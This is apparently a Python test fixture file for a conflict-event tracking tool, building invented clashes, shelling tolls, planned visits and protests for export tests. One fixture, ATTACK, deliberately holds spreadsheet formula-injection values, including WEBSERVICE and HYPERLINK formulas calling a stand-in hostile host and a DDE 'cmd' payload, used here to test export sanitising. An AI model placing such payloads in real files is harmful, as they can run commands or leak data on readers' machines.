"""Events made by hand for every format: a clash, shelling with its toll, plans, history, and a page that attacks."""

from __future__ import annotations

from dataclasses import replace

from palagan.exports.event import Event, Telling, Where
from palagan.exports.formats import Going
from palagan.model.decision import Ruling
from palagan.model.ids import sha256_hex
from palagan.model.reading import Status
from palagan.model.record import Evidence, Happening, Link, Mention, OriginCount, Party
from palagan.views.cards import Footnote, PageCard
from palagan.views.ledgers import EntryRow, LedgerRow, NowRow

TNI = Party("tni", "TNI", "organization", "IDN.MIL")
TPNPB = Party("tpnpb", "TPNPB", "group", "IDN.REB")
RESIDENTS = Party("IDN.CVL:warga", "warga", "group", "IDN.CVL")
MINISTER = Party("menlu", "Menteri Luar Negeri", "person", "IDN.GOV")
FIJI = Party("FJI", "Fiji", "state", "FJI")
UN = Party("pbb", "PBB", "organization", "UNO")
KARABAKH = Party("artsakh", "Pasukan Karabakh", "organization", "XNK.MIL")
STUDENTS = Party("IDN.EDU:mahasiswa", "mahasiswa", "group", "IDN.EDU")
HOSTILE = Party("x", '=HYPERLINK("http://jahat.example")\tdan\nlain', "person", "IDN.MIL")

SUGAPA = Where("Sugapa", "town", "IDN", "Papua Tengah", "Intan Jaya", -3.74, 137.05, 11011788)
PAPUA = Where("Papua", "province", "IDN", "Papua", None, -2.93, 138.91)
INDONESIA = Where("Indonesia", "country", "IDN")

ACCEPTED = Ruling("dc-1", "accept", "Rina", "2026-05-14T08:00:00Z", "dicek ke halaman")
DISPUTED = replace(ACCEPTED, decision="dc-2", by="Omar", disputed=True)
UNSURE = Ruling("dc-3", "unsure", "Omar", "2026-05-15T08:00:00Z", "tanggalnya kabur")


def card(id_: str, outlet: str, published: str | None, *, url: bool = True) -> PageCard:
    """A page of that outlet."""
    address = f"https://{outlet.lower().replace(' ', '')}.example/{id_}" if url else None
    return PageCard(
        id_, outlet, f"Berita {id_}", published, address, None, f"{id_}.txt", "id", True, sha256_hex(id_.encode())
    )


ONE = card("pg-1", "Kabar Uji", "2026-05-12T09:14+09:00")
TWO = card("pg-2", "Warta Coba", "2026-05-13", url=False)
PAGES = {one.id: one for one in (ONE, TWO)}


def mention(page: PageCard, event: str, words: str, anchor: str) -> Mention:
    """A telling: `words` begin at 100 of the page."""
    at = words.index(anchor)
    return Mention(
        page.id, event, Evidence(page.id, 100, 100 + len(words), words),
        Evidence(page.id, 100 + at, 100 + at + len(anchor), anchor), "happened", (), (), page.published,
    )  # fmt: skip


def happening(
    id_: str,
    type_: str,
    mode: str | None,
    sources: tuple[Party, ...],
    targets: tuple[Party, ...],
    date: str | None,
    place: str | None = "Sugapa",
    status: Status = "happened",
    *,
    background: bool = False,
    pages: tuple[PageCard, ...] = (ONE,),
    words: str = "Baku tembak pecah di Sugapa, Senin.",
    anchor: str = "Baku tembak",
    rulings: tuple[Ruling, ...] = (),
) -> Happening:
    """A happening told by some pages."""
    told = tuple(mention(page, f"e{number}", words, anchor) for number, page in enumerate(pages, 1))
    first = min((page.published for page in pages if page.published), default=None)
    return Happening(
        id_, type_, mode, sources, targets, date, place, status, background, told, (), (),
        OriginCount(1, len(pages), ("or-1",)), first, first, "st-1", (Link("answered-by", "hp-9"),), (), rulings,
    )  # fmt: skip


def toll(kind: str, *said: tuple[str, float | None, float | None], cumulative: bool = False) -> LedgerRow:
    """A ledger in which speakers now say these bounds."""
    notes = [
        Footnote(ONE.id, ONE.outlet, ONE.title, ONE.published, ONE.url, 100, 120, f"{low} orang", None, ONE.sha256)
        for _, low, _ in said
    ]
    entries = tuple(
        EntryRow(
            f"fg-{n}", kind, low, high, f"{low} orang", (who,), "Sugapa", None, ONE.published, ONE.outlet, cumulative,
            True, (), (), note,
        )
        for n, ((who, low, high), note) in enumerate(zip(said, notes, strict=True), 1)
    )  # fmt: skip
    now = tuple(NowRow((who,), low, high, ONE.published, cumulative, ()) for who, low, high in said)
    lows, highs = [one[1] for one in said if one[1] is not None], [one[2] for one in said if one[2] is not None]
    return LedgerRow(
        f"lg-{kind}", "Sugapa", kind, min(lows, default=None), max(highs, default=None),
        tuple(one[0] for one in said), 1, 2, "hp-2", "st-1", entries, now,
    )  # fmt: skip


CLASH = Event(
    happening("hp-1", "ASSAULT", "firearms", (TNI, TPNPB), (TNI, TPNPB), "2026-05-11", pages=(ONE, TWO),
              rulings=(ACCEPTED,)),
    PAGES, ("Antara",), (), SUGAPA,
    {("pg-1", "e1"): Telling(3, 2048, 0.914), ("pg-2", "e2"): Telling(None, 900, None)},
)  # fmt: skip
SHELLING = Event(
    happening("hp-2", "ASSAULT", "heavy-weapons", (TNI,), (RESIDENTS,), "2026-05-12",
              words="Mortir menewaskan warga.", anchor="Mortir"),
    PAGES, ("Antara", "Jubi"), (toll("killed", ("TNI", 3, 3), ("RSUD", 5, 6)), toll("wounded", ("RSUD", 9, 9))), SUGAPA,
)  # fmt: skip
AGREED_TOLL = Event(
    happening("hp-3", "ASSAULT", None, (TPNPB,), (RESIDENTS,), "2026-05", place="Papua"),
    PAGES, ("Antara",), (toll("killed", ("TNI", 2, 2), ("TPNPB", 2, 2)),), PAPUA,
)  # fmt: skip
VISIT = Event(
    happening("hp-4", "CONSULT", "visit", (MINISTER,), (FIJI,), "2026-05-20", None, "planned",
              words="Menlu akan ke Fiji.", anchor="akan ke"),
    PAGES, ("Kabar Uji",),
)  # fmt: skip
FEARED = Event(happening("hp-5", "ASSAULT", None, (TPNPB,), (TNI,), "2026-06-01", status="possible"), PAGES)
HISTORY = Event(happening("hp-6", "RETREAT", "ceasefire", (TNI,), (TPNPB,), "1999", background=True), PAGES)
UNDATED = Event(happening("hp-7", "PROTEST", "demo", (STUDENTS,), (), None, "Indonesia"), PAGES, (), (), INDONESIA)
PROTEST = Event(
    happening("hp-8", "PROTEST", "demo", (STUDENTS,), (), "2026-05-13", "Jayapura", pages=(TWO,),
              words="Mahasiswa berunjuk rasa.", anchor="berunjuk rasa"), PAGES, ("Jubi",), (),
)  # fmt: skip
NOBODY = Event(happening("hp-9", "ASSAULT", None, (), (), "2026-05-13"), PAGES)
SUMMED = Event(
    happening("hp-10", "ASSAULT", "aerial", (KARABAKH,), (UN,), "2026-05-09/2026-05-11", None),
    PAGES, (), (toll("killed", ("TNI", 300, 300), cumulative=True),),
)  # fmt: skip
ATTACK = Event(
    happening("hp-11", "REQUEST", None, (HOSTILE,), (UN,), "2026-05-14", '@SUM(A1)\t"=x', words="+cmd|' /C calc'!A0",
              anchor="+cmd", rulings=(UNSURE,)),
    PAGES, ('=WEBSERVICE("http://jahat.example")',),
)  # fmt: skip

_EVERY = (CLASH, SHELLING, AGREED_TOLL, VISIT, FEARED, HISTORY, UNDATED, PROTEST, NOBODY, SUMMED, ATTACK)
EVENTS = tuple(replace(one, pages={told.page: PAGES[told.page] for told in one.happening.mentions}) for one in _EVERY)


def going(table: str = "happenings", beside: list[dict[str, object]] | None = None) -> Going:
    """What a writer is told, at a fixed moment."""
    lines = [] if beside is None else beside
    return Going(table, "uji", "2026-05-15T06:00:00Z", "0.1.0", lambda line: lines.append(dict(line)))
